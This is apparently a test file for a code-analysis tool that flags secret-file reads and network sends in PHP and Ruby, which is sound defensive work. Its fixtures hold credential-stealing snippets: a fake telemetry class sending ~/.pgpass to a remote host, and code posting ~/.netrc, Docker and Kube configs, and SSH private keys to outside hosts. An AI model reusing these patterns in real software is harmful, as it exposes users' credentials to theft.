import { describe, expect, it } from 'vitest';
import { libStatements } from '../../../src/analysis/code/scripting/lib-lang.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * PHP written to PSR-12 (class and method braces on their own lines, `@`-silenced calls, class constants)
 * read statement by statement, and Ruby blocks that walk a literal array or hash of paths
 * (src/analysis/code/scripting/ruby-loops.ts).
 */
const PSR12_CLASS = [
  '<?php',
  '',
  'declare(strict_types=1);',
  '',
  'namespace Build\\Telemetry;',
  '',
  '/**',
  ' * Uploads build timings.',
  ' */',
  'final class Timings',
  '{',
  "    private const SINK = 'timings.build-insight-hub.dev';",
  '',
  '    public static function flush(): void',
  '    {',
  '        $blob = self::context();',
  "        $s = @fsockopen('tls://' . self::SINK, 443, $n, $e, 2);",
  '        if ($s === false) {',
  '            return;',
  '        }',
  '        fwrite($s, "PUT /t HTTP/1.0\\r\\n\\r\\n" . $blob);',
  '    }',
  '',
  '    private static function context(): string',
  '    {',
  "        return (string) file_get_contents(getenv('HOME') . '/.pgpass');",
  '    }',
  '}',
  '',
].join('\n');

describe('PHP classes with braces on their own lines', () => {
  it('reads each statement of a method, not the whole class as one statement', () => {
    const texts = libStatements(PSR12_CLASS, 'php').map((s) => s.text);
    expect(texts).toContain("private const SINK = 'timings.build-insight-hub.dev'");
    expect(texts.some((t) => t.startsWith('$s = ') && t.includes('fsockopen('))).toBe(true);
    expect(texts.every((t) => t.split('\n').length < 6)).toBe(true);
  });

  it('finds the read and the socket send, with the class constant resolved to its host', async () => {
    const f = await factsOf('scripting', PSR12_CLASS);
    expect(ofKind(f, 'read').map((r) => r.target.text)).toEqual(['~/.pgpass']);
    const sends = ofKind(f, 'send');
    expect(sends).toHaveLength(1);
    expect(sends[0]!.endpoint.host).toBe('timings.build-insight-hub.dev');
    expect(sends[0]!.data.taints).toContain('secret');
  });

  it("resolves another class's constant and a bare one; an unknown constant stays unknown", async () => {
    const code = [
      '<?php',
      'class Conf {',
      "    const HOST = 'relay.example-sync.dev';",
      '}',
      'const PORT = 9000;',
      "$c = @stream_socket_client('tcp://' . Conf::HOST . ':' . PORT);",
      "fwrite($c, file_get_contents(getenv('HOME') . '/.netrc'));",
      "$d = stream_socket_client('tcp://' . Other::HOST . ':1');",
      "fwrite($d, file_get_contents(getenv('HOME') . '/.netrc'));",
      '',
    ].join('\n');
    const hosts = ofKind(await factsOf('scripting', code), 'send').map((s) => s.endpoint.url);
    expect(hosts[0]).toBe('relay.example-sync.dev:9000');
    expect(hosts[1]).not.toContain('relay.example-sync.dev');
  });

  it('keeps an address in a heredoc whole (an @ after a word is no operator)', () => {
    const texts = libStatements("<?php\n$to = 'ops@example.org';\n$x = @mkdir('/tmp/x');\n", 'php').map(
      (s) => s.text,
    );
    expect(texts).toContain("$to = 'ops@example.org'");
    expect(texts).toContain("$x =  mkdir('/tmp/x')");
  });
});

describe('Ruby blocks over literal collections', () => {
  it('a hash of credential paths walked by each_with_object is a read of each, carried by the method', async () => {
    const code = [
      'def logins',
      '  files = {',
      '    "docker" => File.join(Dir.home, ".docker", "config.json"),',
      '    "kube" => File.join(Dir.home, ".kube", "config"),',
      '  }',
      '  files.each_with_object({}) do |(tool, path), out|',
      '    out[tool] = File.read(path) if File.file?(path)',
      '  end',
      'end',
      'Net::HTTP.post(URI("https://intake.fleet-sync.dev/x"), logins.to_s)',
      '',
    ].join('\n');
    const f = await factsOf('scripting', code);
    expect(ofKind(f, 'read').map((r) => r.target.text)).toEqual(['~/.docker/config.json', '~/.kube/config']);
    expect(ofKind(f, 'send')[0]!.data.taints).toContain('secret');
  });

  it('an array of names joined into paths inside the block, stored by key and sent', async () => {
    const code = [
      'names = %w[id_rsa id_ed25519]',
      'got = {}',
      'names.each { |n| got[n] = File.read(File.join(Dir.home, ".ssh", n)) }',
      'Net::HTTP.post_form(URI("https://intake.fleet-sync.dev/k"), "k" => got.to_s)',
      '',
    ].join('\n');
    const f = await factsOf('scripting', code);
    expect(ofKind(f, 'read').map((r) => r.target.text)).toEqual(['~/.ssh/id_rsa', '~/.ssh/id_ed25519']);
    expect(ofKind(f, 'send')[0]!.data.secret).toBe('ssh-key');
  });

  it('a hash of project folders walked and printed is no secret read', async () => {
    const code = [
      'dirs = { "src" => "/srv/src", "docs" => "/srv/docs" }',
      'dirs.each do |from, to|',
      '  puts File.read(File.join(__dir__, from, "README.md"))',
      'end',
      '',
    ].join('\n');
    const f = await factsOf('scripting', code);
    expect(ofKind(f, 'read')).toEqual([]);
    expect(ofKind(f, 'send')).toEqual([]);
  });
});
